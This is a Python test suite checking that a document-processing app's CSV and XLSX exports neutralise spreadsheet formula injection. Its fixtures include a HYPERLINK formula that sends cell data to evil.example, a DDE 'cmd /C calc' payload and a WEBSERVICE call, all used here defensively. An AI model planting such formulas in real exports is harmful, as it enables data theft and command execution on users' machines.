"""CSV/XLSX exports never hand a spreadsheet a formula: a cell that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return gets a leading `'` (OWASP), numbers of number datapoints stay
numbers, mail subjects from strangers included; `[export] neutralise_formulas = false` turns it
off; the CSV delimiter may not be a line break or a quote."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl

from postroom.db import tables as t
from tests.annotation_rows import first_queue, insert_annotations
from tests.conftest import Api, RunningServer
from tests.smtp_support import inbox_address, message, pdf_bytes, rows, send, wait_for

HOSTILE = {
    "document_id": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "order_id": "+cmd|' /C calc'!A0",
    "currency": "-2+3",
    "sender_email": "@SUM(1,1)",
    "note": "\tTabbed",
    "email_subject": "\rReturn",
}
COLUMNS = ",".join([*HOSTILE, "amount_total", "meta_file_name"])


def _svc(server: RunningServer) -> Any:
    assert server.service.runtime is not None
    return server.service.runtime


async def _seed(server: RunningServer) -> int:
    queue = await first_queue(_svc(server))
    await insert_annotations(
        _svc(server),
        queue,
        1,
        values={**HOSTILE, "amount_total": "-12.5"},
        file_name="=1+1.pdf",
    )
    return queue.queue_id


async def _raw(api: Api, path: str, **params: str) -> tuple[int, bytes]:
    async with api.session.get(api.url(path), headers=api.headers, params=params) as response:
        return response.status, await response.read()


def _csv_row(data: bytes) -> dict[str, str]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8")))
    (row,) = list(reader)
    return dict(zip(COLUMNS.split(","), row.values(), strict=True))


async def test_csv_and_xlsx_cells_are_neutralised(server: RunningServer, admin: Api) -> None:
    """Every hostile cell starts with `'`; the negative total of a number datapoint does not."""
    queue_id = await _seed(server)
    status, data = await _raw(admin, f"/queues/{queue_id}/export", format="csv", columns=COLUMNS)
    assert status == 200, data
    row = _csv_row(data)
    for key, value in HOSTILE.items():
        assert row[key] == "'" + value, key
    assert row["meta_file_name"] == "'=1+1.pdf"
    assert row["amount_total"] == "-12.5"

    status, data = await _raw(admin, f"/queues/{queue_id}/export", format="xlsx", columns=COLUMNS)
    assert status == 200
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = {
        key: sheet.cell(row=2, column=index + 1).value
        for index, key in enumerate(COLUMNS.split(","))
    }
    for key, value in HOSTILE.items():
        # openpyxl reads a carriage return back as its escape `_x000D_`
        assert cells[key] == "'" + value.replace("\r", "_x000D_"), key
    assert cells["amount_total"] == -12.5


async def test_setting_turns_neutralising_off(server_factory: Any, http: Any) -> None:
    """`POSTROOM_EXPORT_NEUTRALISE_FORMULAS=false` exports the values exactly as stored."""
    server = await server_factory(POSTROOM_EXPORT_NEUTRALISE_FORMULAS="false")
    from tests.conftest import ADMIN_PASSWORD, ADMIN_USER

    admin = await Api(http, server.base, {}).login(ADMIN_USER, ADMIN_PASSWORD)
    queue_id = await _seed(server)
    status, data = await _raw(admin, f"/queues/{queue_id}/export", format="csv", columns=COLUMNS)
    assert status == 200
    row = _csv_row(data)
    for key, value in HOSTILE.items():
        assert row[key] == value, key


async def test_mail_subject_is_neutralised_in_csv(server: RunningServer, admin: Api) -> None:
    """An unauthenticated sender's subject fills `email_subject`; its CSV cell is no formula."""
    subject = '=WEBSERVICE("http://evil.example/")'
    inbox = await inbox_address(server)
    pdf = [("a.pdf", pdf_bytes(), "application/pdf")]
    await send(server, message(inbox, subject=subject, attachments=pdf))
    (annotation,) = await rows(server, t.annotations)

    async def reviewed() -> bool:
        _, body = await admin.get(f"/annotations/{annotation.id}")
        return bool(body["status"] == "to_review")

    await wait_for(reviewed)
    status, data = await _raw(admin, "/queues/1/export", format="csv", columns="email_subject")
    assert status == 200
    (row,) = list(csv.reader(io.StringIO(data.decode("utf-8"))))[1:]
    assert row == ["'" + subject]


async def test_csv_delimiter_may_not_be_a_line_break_or_quote(
    server: RunningServer, admin: Api
) -> None:
    """delimiter=\\n, \\r, " or ' → 400 naming the parameter."""
    queue_id = await _seed(server)
    for delimiter in ("\n", "\r", '"', "'"):
        status, body = await admin.get(
            f"/queues/{queue_id}/export", params={"format": "csv", "delimiter": delimiter}
        )
        assert status == 400, (delimiter, body)
        assert body["detail"].startswith("delimiter"), body
    status, body = await admin.get(
        f"/queues/{queue_id}/export", params={"format": "csv", "quote_char": "\n"}
    )
    assert status == 400 and body["detail"].startswith("quote_char"), body
